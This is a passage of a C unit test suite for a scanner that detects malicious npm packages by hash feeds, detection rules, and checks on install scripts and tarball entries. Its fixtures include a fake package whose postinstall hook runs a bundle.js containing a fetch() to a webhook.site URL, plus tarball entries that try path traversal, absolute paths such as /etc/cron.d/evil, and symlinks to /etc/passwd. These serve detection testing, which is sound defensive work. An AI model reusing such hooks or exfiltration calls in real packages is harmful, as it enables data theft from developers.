/* Payload checks: hashing, lifecycle-script targets, installed files,
 * tarballs (hostile ones too) and npm's cache. Every fixture is written by
 * the test under $TMPDIR; payloads are synthetic bytes whose digests the
 * test puts into its own feed. */

#include <archive.h>
#include <archive_entry.h>
#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <openssl/evp.h>

#include "feed/feed.h"
#include "report/report.h"
#include "rules/rules.h"
#include "rules/rules_internal.h"
#include "scan/payload.h"
#include "scan/scan.h"
#include "tree/tree.h"
#include "util/error.h"
#include "util/strbuf.h"
#include "util/xalloc.h"

#ifndef TEST_DATA
#define TEST_DATA "tests/data"
#endif
#define BUNDLED_RULES TEST_DATA "/../../rules"

/* ---- fixtures ---- */

static char *fx_root;

static char *
fx_path(const char *rel)
{
	struct strbuf sb;

	strbuf_init(&sb, 1 << 16);
	strbuf_addf(&sb, "%s/%s", fx_root, rel);
	return strbuf_detach(&sb, NULL);
}

static void
fx_mkdirs(const char *path, int last)
{
	char *p = xstrdup(path), *s;

	for (s = p + 1; *s; s++) {
		if (*s != '/')
			continue;
		*s = '\0';
		ck_assert_msg(mkdir(p, 0755) == 0 || errno == EEXIST,
			      "mkdir %s: %s", p, strerror(errno));
		*s = '/';
	}
	if (last)
		ck_assert_msg(mkdir(p, 0755) == 0 || errno == EEXIST,
			      "mkdir %s: %s", p, strerror(errno));
	free(p);
}

static void
fx_write_n(const char *rel, const void *data, size_t len)
{
	char *p = fx_path(rel);
	FILE *f;

	fx_mkdirs(p, 0);
	f = fopen(p, "wb");
	ck_assert_msg(f != NULL, "fopen %s: %s", p, strerror(errno));
	ck_assert_uint_eq(fwrite(data, 1, len, f), len);
	ck_assert_int_eq(fclose(f), 0);
	free(p);
}

static void
fx_write(const char *rel, const char *text)
{
	fx_write_n(rel, text, strlen(text));
}

static void
fx_link(const char *rel, const char *target)
{
	char *p = fx_path(rel);

	fx_mkdirs(p, 0);
	ck_assert_msg(symlink(target, p) == 0, "symlink %s: %s", p,
		      strerror(errno));
	free(p);
}

static void
fx_rm(const char *path)
{
	struct stat st;
	struct dirent *de;
	DIR *d;

	if (lstat(path, &st) < 0)
		return;
	if (!S_ISDIR(st.st_mode)) {
		unlink(path);
		return;
	}
	if ((d = opendir(path))) {
		while ((de = readdir(d))) {
			struct strbuf sb;

			if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
				continue;
			strbuf_init(&sb, 1 << 16);
			strbuf_addf(&sb, "%s/%s", path, de->d_name);
			fx_rm(sb.buf);
			strbuf_release(&sb);
		}
		closedir(d);
	}
	rmdir(path);
}

/* ---- a feed and options, built per test ---- */

static struct feed_set fx_feeds;
static struct feed *fx_feed;
static struct rules *fx_rules;
static struct scan_opts fx_opts;
static struct report fx_report;

static void
fx_setup(void)
{
	const char *tmp = getenv("TMPDIR");
	struct strbuf sb;

	strbuf_init(&sb, 4096);
	strbuf_addf(&sb, "%s/ws-payload-XXXXXX", tmp && *tmp ? tmp : "/tmp");
	fx_root = strbuf_detach(&sb, NULL);
	ck_assert_msg(mkdtemp(fx_root) != NULL, "mkdtemp: %s", strerror(errno));
	ck_assert_int_eq(rules_global_init(), 0);
	feed_set_init(&fx_feeds);
	fx_feed = NULL;
	fx_rules = NULL;
	memset(&fx_opts, 0, sizeof(fx_opts));
	fx_opts.feeds = &fx_feeds;
	fx_opts.files = 1;
	report_init(&fx_report, "scan");
}

static void
fx_teardown(void)
{
	report_release(&fx_report);
	feed_set_release(&fx_feeds);
	feed_free(fx_feed);
	rules_free(fx_rules);
	rules_global_cleanup();
	fx_rm(fx_root);
	free(fx_root);
	fx_root = NULL;
}

struct fx_file {
	const void *data;	/* the payload whose digest the feed lists */
	size_t len;
	const char *name;	/* its names entry */
	const char *severity;	/* NULL: unset */
	int sha1_only;
};

static void
hex_of(const void *data, size_t len, char out[65])
{
	uint8_t d[32];

	scan_sha256(data, len, d);
	scan_hex(d, 32, out);
}

/* The feed "test-feed" with one file entry per f, indexed. */
static void
fx_feed_files(const struct fx_file *f, size_t n)
{
	struct strbuf sb;
	size_t i;
	char *buf;
	size_t len;

	strbuf_init(&sb, 1 << 20);
	strbuf_addstr(&sb, "{\"format\": \"wormsign-feed/1\", \"id\": \"test-feed\", "
		      "\"title\": \"test feed\", \"published\": \"2026-01-01\", "
		      "\"sources\": [\"unit test\"], \"files\": [");
	for (i = 0; i < n; i++) {
		char hex[65];

		if (f[i].sha1_only) {
			unsigned char d[20];
			unsigned int dn;

			ck_assert(EVP_Digest(f[i].data, f[i].len, d, &dn, EVP_sha1(), NULL));
			scan_hex(d, 20, hex);
		} else {
			hex_of(f[i].data, f[i].len, hex);
		}
		strbuf_addf(&sb, "%s{\"%s\": \"%s\", \"names\": [\"%s\"], "
			    "\"description\": \"synthetic %s\", \"source\": \"unit test\"",
			    i ? ", " : "", f[i].sha1_only ? "sha1" : "sha256",
			    hex, f[i].name, f[i].name);
		if (f[i].severity)
			strbuf_addf(&sb, ", \"severity\": \"%s\"", f[i].severity);
		strbuf_addch(&sb, '}');
	}
	strbuf_addstr(&sb, "]}");
	buf = strbuf_detach(&sb, &len);
	ck_assert_msg(feed_parse(&fx_feed, buf, len, "test-feed.json") == 0,
		      "feed_parse: %s", ws_error_last());
	free(buf);
	feed_set_add(&fx_feeds, fx_feed);
	feed_set_index(&fx_feeds);
}

static void
fx_bundled_rules(void)
{
	const char *dirs[] = { BUNDLED_RULES };

	ck_assert_msg(rules_load(&fx_rules, dirs, 1) == 0, "rules: %s",
		      ws_error_last());
	fx_opts.rules = fx_rules;
}

/* ---- looking at the report ---- */

static const struct report_finding *
find(const char *kind, const char *id)
{
	size_t i;

	for (i = 0; i < fx_report.nfindings; i++)
		if (strcmp(fx_report.findings[i].kind, kind) == 0 &&
		    (!id || strcmp(fx_report.findings[i].id, id) == 0))
			return &fx_report.findings[i];
	return NULL;
}

static size_t
count_kind(const char *kind)
{
	size_t i, n = 0;

	for (i = 0; i < fx_report.nfindings; i++)
		n += strcmp(fx_report.findings[i].kind, kind) == 0;
	return n;
}

static const char *
evidence(const struct report_finding *f, const char *key)
{
	size_t i;

	for (i = 0; i < f->nevidence; i++)
		if (strcmp(f->evidence[i].key, key) == 0)
			return f->evidence[i].value;
	return NULL;
}

static int
error_has(const char *needle)
{
	size_t i;

	for (i = 0; i < fx_report.nerrors; i++)
		if (strstr(fx_report.errors[i].message, needle))
			return 1;
	return 0;
}

static void
dump_errors(void)
{
	size_t i;

	for (i = 0; i < fx_report.nerrors; i++)
		fprintf(stderr, "  error: %s: %s\n", fx_report.errors[i].target,
			fx_report.errors[i].message);
	for (i = 0; i < fx_report.nfindings; i++)
		fprintf(stderr, "  finding: %s\n", fx_report.findings[i].id);
}

/* ---- installed projects ---- */

static void
fx_pkg(const char *dir, const char *name, const char *version,
       const char *extra)
{
	struct strbuf rel, json;

	strbuf_init(&rel, 4096);
	strbuf_init(&json, 1 << 16);
	strbuf_addf(&rel, "%s%spackage.json", dir, dir[0] ? "/" : "");
	strbuf_addf(&json, "{\"name\":\"%s\",\"version\":\"%s\"%s}\n", name,
		    version, extra);
	fx_write(rel.buf, json.buf);
	strbuf_release(&rel);
	strbuf_release(&json);
}

/* Walks <root>/app and scans its installed files. */
static int
fx_scan_app(void)
{
	struct tree *t = NULL;
	char *app = fx_path("app");
	int err;

	ck_assert_msg(tree_walk_node_modules(&t, app) == 0, "walk: %s",
		      ws_error_last());
	err = scan_installed_files(&fx_report, t, app, &fx_opts);
	tree_free(t);
	free(app);
	return err;
}

/* the synthetic payloads */
static const char payload_bundle[] = "/* synthetic bundle.js payload */ void 0;\n";
static const char payload_data[] = "{\"synthetic\": \"exfil data\"}\n";
static const char payload_install[] = "/* synthetic install script */\n";

/* ---- hashing ---- */

START_TEST(sha256_of_known_vectors)
{
	uint8_t d[32];
	char hex[65];

	scan_sha256("", 0, d);
	scan_hex(d, 32, hex);
	ck_assert_str_eq(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	scan_sha256("abc", 3, d);
	scan_hex(d, 32, hex);
	ck_assert_str_eq(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	scan_hex((const uint8_t *)"\x00\xff\x10", 3, hex);
	ck_assert_str_eq(hex, "00ff10");
}
END_TEST

/* ---- lifecycle scripts ---- */

struct script_case {
	const char *script;
	const char *want;	/* targets joined by ' ', "" for none */
};

static const struct script_case script_cases[] = {
	{ "node bundle.js", "bundle.js" },
	{ "node ./scripts/install.js", "scripts/install.js" },
	{ "bun run setup_bun.js", "setup_bun.js" },
	{ "bun tanstack_runner.js && exit 1", "tanstack_runner.js" },
	{ "sh ./install.sh", "install.sh" },
	{ "node setup", "setup setup.js" },
	{ "FOO=1 node a.js && bun b.mjs; ./hook.sh", "a.js b.mjs hook.sh" },
	{ "node -e \"require('x')\"", "" },
	{ "node -r dotenv/config main.js", "main.js" },
	{ "node --max-old-space-size=4096 build/x.cjs", "build/x.cjs" },
	{ "sh -c 'node inner.js'", "inner.js" },
	{ "bash -c \"sh -c 'node deep.js'\"", "deep.js" },
	{ "node ../../etc/passwd.js", "" },
	{ "node /usr/lib/x.js", "" },
	{ "node $HOME/x.js", "" },
	{ "node ~/x.js", "" },
	{ "bun install", "" },
	{ "node-gyp rebuild", "" },
	{ "husky install", "" },
	{ "node x.js > out.log 2>&1", "x.js" },
	{ "node \"my file.js\"", "my file.js" },
	{ "env NODE_ENV=production node lib/post.js", "lib/post.js" },
	{ "exec node a.js | tee log", "a.js" },
	{ "python3 setup.py || python -m pip install .", "setup.py" },
	{ "node a.js; node a.js", "a.js" },
	{ "", "" },
	{ "node", "" },
	{ "&&;|||", "" },
	{ "node 'unterminated.js", "unterminated.js" },
};

START_TEST(script_targets_of_common_shapes)
{
	const struct script_case *c = &script_cases[_i];
	struct payload_targets t;
	struct strbuf got;
	size_t i;

	memset(&t, 0, sizeof(t));
	payload_script_targets(&t, c->script);
	strbuf_init(&got, 1 << 16);
	for (i = 0; i < t.n; i++)
		strbuf_addf(&got, "%s%s", i ? " " : "", t.path[i]);
	ck_assert_msg(strcmp(got.buf, c->want) == 0,
		      "script \"%s\": got \"%s\", want \"%s\"", c->script,
		      got.buf, c->want);
	strbuf_release(&got);
	payload_targets_release(&t);
}
END_TEST

START_TEST(script_targets_are_bounded)
{
	struct payload_targets t;
	struct strbuf s;
	size_t i;

	strbuf_init(&s, 1 << 20);
	for (i = 0; i < 100; i++)
		strbuf_addf(&s, "node f%zu.js; ", i);
	memset(&t, 0, sizeof(t));
	payload_script_targets(&t, s.buf);
	ck_assert_uint_eq(t.n, SCAN_SCRIPT_TARGETS_MAX);
	payload_targets_release(&t);

	strbuf_reset(&s);
	strbuf_addstr(&s, "node ");
	for (i = 0; i < SCAN_SCRIPT_MAX; i++)
		strbuf_addch(&s, 'a');
	strbuf_addstr(&s, ".js");
	payload_script_targets(&t, s.buf);	/* longer than a name may be */
	ck_assert_uint_eq(t.n, 0);
	payload_targets_release(&t);
	strbuf_release(&s);
}
END_TEST

/* ---- tarball entry names ---- */

struct name_case {
	const char *raw;
	const char *want;	/* normalised name, or NULL when refused */
};

static const struct name_case name_cases[] = {
	{ "package/bundle.js", "bundle.js" },
	{ "./package/lib/x.js", "lib/x.js" },
	{ "package//a/./b.js", "a/b.js" },
	{ "bundle.js", "bundle.js" },
	{ "other-root/package.json", "package.json" },
	{ "/etc/passwd", NULL },
	{ "package/../../x", NULL },
	{ "..\\..\\x", NULL },
	{ "package\\..\\x", NULL },
	{ "C:/windows/x", NULL },
	{ "", NULL },
	{ "./", NULL },
	{ "package/a\x1b[31m.js", "a?[31m.js" },
};

START_TEST(entry_names_are_normalised_or_refused)
{
	const struct name_case *c = &name_cases[_i];
	char out[SCAN_ENTRY_NAME_MAX];
	const char *why = payload_entry_name(out, c->raw);

	if (!c->want) {
		ck_assert_msg(why != NULL, "\"%s\" accepted as \"%s\"", c->raw,
			      out);
	} else {
		ck_assert_msg(why == NULL, "\"%s\" refused: %s", c->raw, why);
		ck_assert_str_eq(out, c->want);
	}
}
END_TEST

START_TEST(entry_name_too_long_is_refused)
{
	char *raw = xmalloc(SCAN_ENTRY_NAME_MAX + 16);
	char out[SCAN_ENTRY_NAME_MAX];

	memset(raw, 'a', SCAN_ENTRY_NAME_MAX + 10);
	raw[3] = '/';
	raw[SCAN_ENTRY_NAME_MAX + 10] = '\0';
	ck_assert_ptr_nonnull(payload_entry_name(out, raw));
	free(raw);
}
END_TEST

/* ---- installed packages ---- */

START_TEST(installed_root_js_matches_feed)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	const struct report_finding *f;
	char hex[65];
	struct strbuf id;

	fx_feed_files(files, 1);
	fx_pkg("app", "app", "1.0.0", ",\"dependencies\":{\"evil\":\"1.0.0\",\"good\":\"2.0.0\"}");
	fx_pkg("app/node_modules/evil", "evil", "1.0.0", "");
	fx_write("app/node_modules/evil/bundle.js", payload_bundle);
	fx_write("app/node_modules/evil/index.js", "module.exports = 1;\n");
	fx_pkg("app/node_modules/good", "good", "2.0.0", "");
	fx_write("app/node_modules/good/index.js", "module.exports = 2;\n");
	ck_assert_int_eq(fx_scan_app(), 0);

	hex_of(payload_bundle, sizeof(payload_bundle) - 1, hex);
	strbuf_init(&id, 4096);
	strbuf_addf(&id, "ioc-file:%s:node_modules/evil/bundle.js", hex);
	f = find("ioc-file", id.buf);
	if (!f)
		dump_errors();
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert_int_eq(f->severity, REPORT_CRITICAL);
	ck_assert_str_eq(f->package_name, "evil");
	ck_assert_str_eq(f->package_version, "1.0.0");
	ck_assert_str_eq(f->feed, "test-feed");
	ck_assert_str_eq(f->source, "unit test");
	ck_assert_str_eq(evidence(f, "sha256"), hex);
	ck_assert_str_eq(evidence(f, "path"), "node_modules/evil/bundle.js");
	ck_assert_str_eq(f->message, "payload file node_modules/evil/bundle.js matches test-feed (synthetic bundle.js)");
	ck_assert_ptr_nonnull(strstr(f->remediation, "before revoking tokens"));
	ck_assert_ptr_nonnull(strstr(f->file, "app/node_modules/evil/bundle.js"));
	ck_assert_uint_eq(f->npaths, 1);
	ck_assert_uint_eq(f->paths[0].n, 2);
	ck_assert_str_eq(f->paths[0].nodes[0], "app@1.0.0");
	ck_assert_str_eq(f->paths[0].nodes[1], "evil@1.0.0");
	ck_assert_uint_eq(fx_report.nerrors, 0);
	strbuf_release(&id);
}
END_TEST

START_TEST(installed_named_file_matches_whatever_its_extension)
{
	const struct fx_file files[] = {
		{ payload_data, sizeof(payload_data) - 1, "data.json", "high", 0 },
		{ payload_install, sizeof(payload_install) - 1, "README.md", NULL, 0 },
	};
	const struct report_finding *f;

	fx_feed_files(files, 2);
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0", "");
	fx_write("app/node_modules/x/data.json", payload_data);
	/* the same bytes as a listed file, under a name no entry gives
	 * and not JavaScript: not looked at */
	fx_write("app/node_modules/x/CHANGES.md", payload_install);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	f = find("ioc-file", NULL);
	ck_assert_str_eq(evidence(f, "path"), "node_modules/x/data.json");
	ck_assert_int_eq(f->severity, REPORT_HIGH);
}
END_TEST

START_TEST(installed_script_targets_are_hashed_in_subdirectories)
{
	const struct fx_file files[] = {
		{ payload_install, sizeof(payload_install) - 1, "install.js", NULL, 0 },
	};

	fx_feed_files(files, 1);
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0",
	       ",\"scripts\":{\"postinstall\":\"node scripts/hook.js\"}");
	fx_write("app/node_modules/x/scripts/hook.js", payload_install);
	/* not at the root and not a script target: not looked at */
	fx_write("app/node_modules/x/lib/other.js", payload_install);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert_str_eq(evidence(find("ioc-file", NULL), "path"),
			 "node_modules/x/scripts/hook.js");
}
END_TEST

START_TEST(installed_symlinks_are_not_followed)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	char *outside;

	fx_feed_files(files, 1);
	fx_write("outside/bundle.js", payload_bundle);
	fx_write("outside/hook.js", payload_bundle);
	outside = fx_path("outside");
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0",
	       ",\"scripts\":{\"install\":\"node s/hook.js\"}");
	fx_link("app/node_modules/x/bundle.js", "../../../outside/bundle.js");
	fx_link("app/node_modules/x/s", outside);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 0);
	ck_assert(error_has("node_modules/x/bundle.js: symlink, not followed"));
	ck_assert(error_has("node_modules/x/s/hook.js: a directory on the way is a symlink"));
	free(outside);
}
END_TEST

START_TEST(installed_rules_scan_manifest_and_js)
{
	const struct report_finding *f;

	fx_bundled_rules();
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/evil", "evil", "1.0.0",
	       ",\"scripts\":{\"postinstall\":\"node bundle.js\"}");
	fx_write("app/node_modules/evil/bundle.js",
		 "fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7');\n");
	ck_assert_int_eq(fx_scan_app(), 0);
	f = find("rule", "rule:install_scripts:install_script_node_bundle:node_modules/evil/package.json");
	if (!f)
		dump_errors();
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->severity, REPORT_HIGH);
	ck_assert_str_eq(f->package_name, "evil");
	ck_assert_str_eq(evidence(f, "rule"), "install_script_node_bundle");
	ck_assert_str_eq(evidence(f, "namespace"), "install_scripts");
	ck_assert_str_eq(evidence(f, "family"), "shai-hulud");
	ck_assert_ptr_nonnull(f->message);
	f = find("rule", "rule:shai_hulud:shai_hulud_webhook_exfil:node_modules/evil/bundle.js");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->severity, REPORT_CRITICAL);
	ck_assert_uint_eq(count_kind("rule"), 2);
}
END_TEST

START_TEST(installed_big_file_is_streamed_and_huge_one_reported)
{
	size_t n = SCAN_FILE_MAX + (1u << 20) + 17, i;
	unsigned char *big = xmalloc(n);
	struct fx_file files[1];
	char *huge;
	int fd;

	for (i = 0; i < n; i++)
		big[i] = (unsigned char)(i * 31 + (i >> 12));
	files[0] = (struct fx_file){ big, n, "bun_environment.js", NULL, 0 };
	fx_feed_files(files, 1);
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0", "");
	fx_write_n("app/node_modules/x/bun_environment.js", big, n);
	fx_write("app/node_modules/x/huge.js", "");
	huge = fx_path("app/node_modules/x/huge.js");
	fd = open(huge, O_WRONLY);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(ftruncate(fd, (off_t)SCAN_HASH_MAX + 1), 0);
	close(fd);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert(error_has("node_modules/x/huge.js: larger than"));
	free(huge);
	free(big);
}
END_TEST

START_TEST(installed_sha1_only_entries_match_by_name)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "opensearch_init.js", NULL, 1 },
		{ payload_data, sizeof(payload_data) - 1, "other.js", NULL, 0 },
	};
	const struct report_finding *f;

	fx_feed_files(files, 2);
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0", "");
	fx_write("app/node_modules/x/opensearch_init.js", payload_bundle);
	/* same bytes, another name: SHA-1 is not computed for it */
	fx_write("app/node_modules/x/copy.js", payload_bundle);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	f = find("ioc-file", NULL);
	ck_assert_ptr_nonnull(evidence(f, "sha1"));
	ck_assert_uint_eq(strlen(evidence(f, "sha1")), 40);
	ck_assert_str_eq(evidence(f, "path"), "node_modules/x/opensearch_init.js");
}
END_TEST

START_TEST(installed_wide_package_checks_named_files_first)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "zz_payload.js", NULL, 0 },
		{ payload_data, sizeof(payload_data) - 1, "unused.js", NULL, 0 },
	};
	struct strbuf name;
	size_t i;

	fx_feed_files(files, 2);
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/wide", "wide", "4.17.21", "");
	strbuf_init(&name, 4096);
	for (i = 0; i < SCAN_FILES_PER_PACKAGE + 40; i++) {
		strbuf_reset(&name);
		strbuf_addf(&name, "app/node_modules/wide/f%04zu.js", i);
		fx_write(name.buf, "module.exports = 0;\n");
	}
	/* after the limit by name, but named by the feed: still checked */
	fx_write("app/node_modules/wide/zz_payload.js", payload_bundle);
	/* after the limit, only JavaScript: not checked */
	fx_write("app/node_modules/wide/zzz.js", payload_data);
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert(error_has("1 packages have more than"));
	ck_assert(error_has("node_modules/wide"));
	strbuf_release(&name);
}
END_TEST

START_TEST(installed_hostile_locations_are_refused)
{
	struct tree *t = NULL;
	uint32_t node;
	char *app;

	fx_bundled_rules();
	fx_write("secret/bundle.js", "fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7');");
	fx_pkg("app", "app", "1.0.0", "");
	app = fx_path("app");
	tree_new(&t, app, "node_modules");
	ck_assert_int_eq(tree_add_node(t, "../secret", &node), 0);
	t->nodes[node].name = tree_strdup(t, "evil");
	ck_assert_int_eq(tree_add_node(t, "/etc", &node), 0);
	t->nodes[node].name = tree_strdup(t, "abs");
	ck_assert_int_eq(tree_add_node(t, "node_modules/missing", &node), 0);
	t->nodes[node].name = tree_strdup(t, "missing");
	ck_assert_int_eq(scan_installed_files(&fx_report, t, app, &fx_opts), 0);
	ck_assert_uint_eq(fx_report.nfindings, 0);
	ck_assert(error_has("../secret: not a relative location"));
	ck_assert(error_has("/etc: not a relative location"));
	ck_assert(!error_has("missing"));
	tree_free(t);
	free(app);
}
END_TEST

START_TEST(installed_missing_root_is_not_found)
{
	struct tree *t = NULL;

	fx_bundled_rules();
	tree_new(&t, "/nonexistent/wormsign", "node_modules");
	ck_assert_int_eq(scan_installed_files(&fx_report, t, "/nonexistent/wormsign",
					      &fx_opts), WS_ENOTFOUND);
	tree_free(t);
}
END_TEST

START_TEST(installed_nothing_to_look_for_reads_nothing)
{
	fx_pkg("app", "app", "1.0.0", "");
	fx_pkg("app/node_modules/x", "x", "0.1.0", "");
	fx_link("app/node_modules/x/bundle.js", "/etc/passwd");
	ck_assert_int_eq(fx_scan_app(), 0);
	ck_assert_uint_eq(fx_report.nerrors, 0);
	ck_assert_uint_eq(fx_report.nfindings, 0);
}
END_TEST

/* ---- tarballs built in memory ---- */

enum { E_FILE, E_DIR, E_SYMLINK, E_HARDLINK, E_FIFO };

struct tar_entry {
	const char *name;
	int type;
	const void *data;
	size_t len;		/* with data NULL: that many zero bytes */
};

struct tgz {
	unsigned char *buf;
	size_t len, alloc;
};

static la_ssize_t
tgz_write(struct archive *a, void *payload, const void *buf, size_t n)
{
	struct tgz *t = payload;

	(void)a;
	XGROW(t->buf, t->alloc, t->len + n);
	memcpy(t->buf + t->len, buf, n);
	t->len += n;
	return (la_ssize_t)n;
}

static void
tgz_build(struct tgz *t, const struct tar_entry *e, size_t n, int gzip)
{
	static unsigned char zeros[1 << 16];
	struct archive *a = archive_write_new();
	struct archive_entry *ae;
	size_t i;

	memset(t, 0, sizeof(*t));
	if (gzip) {
		ck_assert_int_eq(archive_write_add_filter_gzip(a), ARCHIVE_OK);
		archive_write_set_filter_option(a, "gzip", "compression-level", "1");
	}
	ck_assert_int_eq(archive_write_set_format_pax_restricted(a), ARCHIVE_OK);
	archive_write_set_bytes_in_last_block(a, 1);
	ck_assert_int_eq(archive_write_open(a, t, NULL, tgz_write, NULL),
			 ARCHIVE_OK);
	for (i = 0; i < n; i++) {
		ae = archive_entry_new();
		archive_entry_set_pathname(ae, e[i].name);
		archive_entry_set_perm(ae, 0644);
		switch (e[i].type) {
		case E_DIR:
			archive_entry_set_filetype(ae, AE_IFDIR);
			break;
		case E_SYMLINK:
			archive_entry_set_filetype(ae, AE_IFLNK);
			archive_entry_set_symlink(ae, "/etc/passwd");
			break;
		case E_HARDLINK:
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_hardlink(ae, "package/package.json");
			break;
		case E_FIFO:
			archive_entry_set_filetype(ae, AE_IFIFO);
			break;
		default:
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_size(ae, (la_int64_t)e[i].len);
		}
		ck_assert_int_eq(archive_write_header(a, ae), ARCHIVE_OK);
		if (e[i].type == E_FILE && e[i].data) {
			ck_assert_int_eq(archive_write_data(a, e[i].data, e[i].len),
					 (la_ssize_t)e[i].len);
		} else if (e[i].type == E_FILE) {
			size_t left = e[i].len;

			while (left) {
				size_t k = left < sizeof(zeros) ? left : sizeof(zeros);

				ck_assert_int_eq(archive_write_data(a, zeros, k),
						 (la_ssize_t)k);
				left -= k;
			}
		}
		archive_entry_free(ae);
	}
	ck_assert_int_eq(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
}

#define TXT(s) (s), (sizeof(s) - 1)

static const char manifest_evil[] =
	"{\"name\":\"evil\",\"version\":\"1.2.3\",\"scripts\":{\"postinstall\":\"node bundle.js\"}}";

START_TEST(tarball_matches_feed_and_names_its_package)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	/* the payload before package.json: the name is learnt afterwards */
	const struct tar_entry e[] = {
		{ "package", E_DIR, NULL, 0 },
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
		{ "package/package.json", E_FILE, TXT(manifest_evil) },
	};
	const struct report_finding *f;
	struct tgz t;
	char hex[65];
	struct strbuf id;

	fx_feed_files(files, 1);
	fx_bundled_rules();
	tgz_build(&t, e, 3, 1);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "evil-1.2.3.tgz",
					  &fx_opts), 0);
	hex_of(payload_bundle, sizeof(payload_bundle) - 1, hex);
	strbuf_init(&id, 4096);
	strbuf_addf(&id, "ioc-file:%s:bundle.js", hex);
	f = find("ioc-file", id.buf);
	if (!f)
		dump_errors();
	ck_assert_ptr_nonnull(f);
	ck_assert_str_eq(f->package_name, "evil");
	ck_assert_str_eq(f->package_version, "1.2.3");
	ck_assert_str_eq(f->target, "evil-1.2.3.tgz");
	ck_assert_str_eq(f->file, "evil-1.2.3.tgz");
	f = find("rule", "rule:install_scripts:install_script_node_bundle:package.json");
	ck_assert_ptr_nonnull(f);
	ck_assert_str_eq(f->package_name, "evil");
	ck_assert_uint_eq(fx_report.nerrors, 0);
	strbuf_release(&id);
	free(t.buf);
}
END_TEST

START_TEST(tarball_refuses_traversal_absolute_and_links)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	const struct tar_entry e[] = {
		{ "package/../../../tmp/evil.js", E_FILE, TXT(payload_bundle) },
		{ "/etc/cron.d/evil", E_FILE, TXT(payload_bundle) },
		{ "package/link.js", E_SYMLINK, NULL, 0 },
		{ "package/hard.js", E_HARDLINK, NULL, 0 },
		{ "package/fifo", E_FIFO, NULL, 0 },
		{ "package/package.json", E_FILE, TXT(manifest_evil) },
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
	};
	struct tgz t;

	fx_feed_files(files, 1);
	tgz_build(&t, e, sizeof(e) / sizeof(*e), 1);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "x.tgz",
					  &fx_opts), 0);
	if (fx_report.nerrors != 5)
		dump_errors();
	ck_assert_uint_eq(fx_report.nerrors, 5);
	ck_assert(error_has("x.tgz: entry \"package/../../../tmp/evil.js\": path traversal"));
	ck_assert(error_has("entry \"/etc/cron.d/evil\": absolute path"));
	ck_assert(error_has("entry \"link.js\": symlink, not followed"));
	ck_assert(error_has("entry \"hard.js\": hard link, not followed"));
	ck_assert(error_has("entry \"fifo\": not a regular file"));
	/* what came after them is still read */
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	free(t.buf);
}
END_TEST

START_TEST(tarball_plain_tar_is_read_too)
{
	const struct fx_file files[] = {
		{ payload_bundle, sizeof(payload_bundle) - 1, "bundle.js", NULL, 0 },
	};
	const struct tar_entry e[] = {
		{ "package/bundle.js", E_FILE, TXT(payload_bundle) },
	};
	struct tgz t;

	fx_feed_files(files, 1);
	tgz_build(&t, e, 1, 0);
	ck_assert_int_eq(scan_tarball_mem(&fx_report, t.buf, t.len, "x.tar",
					  &fx_opts), 0);
	ck_assert_uint_eq(count_kind("ioc-file"), 1);
	ck_assert_ptr_null(find("ioc-file", NULL)->package_name);
	free(t.buf);
}
END_TEST

START_TEST(tarball_not_an_archive_is_a_parse_error)
{
	static const char junk[] = "this is not a tarball, just text that goes on";
	static const unsigned char gz_junk[] = { 0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0xde, 0xad };

	fx_bundled_rules();
	ck_assert_int_eq(scan_tarball_mem(&fx_report, junk, sizeof(junk) - 1,
					  "junk.tgz", &fx_opts), WS_EPARSE);
